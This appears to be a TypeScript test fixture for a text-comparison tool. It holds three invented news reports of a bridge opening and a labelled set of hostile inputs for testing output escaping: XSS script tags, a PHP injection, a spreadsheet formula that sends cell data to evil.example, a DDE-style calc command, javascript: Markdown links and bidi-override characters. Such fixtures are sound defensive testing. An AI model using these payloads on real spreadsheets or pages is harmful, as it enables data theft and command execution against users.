import { compare } from '../../src/compare.ts';
import type { Comparison } from '../../src/model.ts';

/** A comparison of texts in which a blank line ends a paragraph, each named by its letter: "a.txt", "b.txt" … */
export function comparisonOf(...texts: readonly string[]): Promise<Comparison> {
  return compare(texts.map((text, index) => ({ source: `${String.fromCharCode(97 + index)}.txt`, text })));
}

/** Three invented reports of one opening: shared and differing words, a quotation cut, figures that disagree, one told by one only. */
export const BRIDGE = [
  `Harbour bridge opens

GREYPORT, May 3, 2021. The mayor opened the new harbour bridge on Monday before a crowd of 2,000 people.

“We have waited forty years for this bridge, and it was worth it,” Mayor Ann Lee said.

The bridge cost 12 million euros, the city said.

Seagulls followed the parade to the old lighthouse.`,
  `New bridge in the harbour

The mayor opened the harbour bridge on Monday before a crowd of 3,000 people, the Herald wrote.

“We have waited forty years for this bridge,” Mayor Lee said.

The bridge cost 12 million euros, officials said.`,
  `Mayor opens bridge

Before a crowd of about 2,000, Mayor Ann Lee opened the new bridge across the harbour on Monday.

The bridge cost 12.4 million euros, the city said.

A ferry strike begins on Thursday.`,
] as const;

/** Texts that mean something to a spreadsheet, a page, a parser of XML or Markdown, or to those who only look. */
export const HOSTILE = {
  script: '</script><script>alert(1)</script><img src=x onerror=alert(2)>',
  cdata: ']]></text><?php evil() ?><!-- -- > &amp; &#x41; & <b>bold</b>',
  formula: '=HYPERLINK("http://evil.example/?"&A1,"click")',
  plus: '+1+cmd|/C calc!A0',
  minus: '-2+3',
  at: '@SUM(1+1)',
  wide: '＝1+1',
  tab: '\t=1+1',
  markdown: '# [link](javascript:alert(1)) *stars* _lines_ `code` | cell ~~gone~~ ![x](y) https://evil.example www.evil.example a@b.example 1. one $x$',
  bidi: 'abc \u202Efed cba\u202C \u2067isolate',
  surrogate: 'half \uD83D of a pair and \uDE00 the other',
  emoji: 'a whole pair 😀 stays',
  quotes: 'He said "no", she said \'yes\'; „ja“, \\back\\slash',
} as const;

/** What XML cannot hold. Not for texts that are compared: reading files takes most of them for signs of a binary file. */
export const CONTROLS = 'nul \0 bell \x07 escape \x1B[31m unit \x1F end \uFFFE';
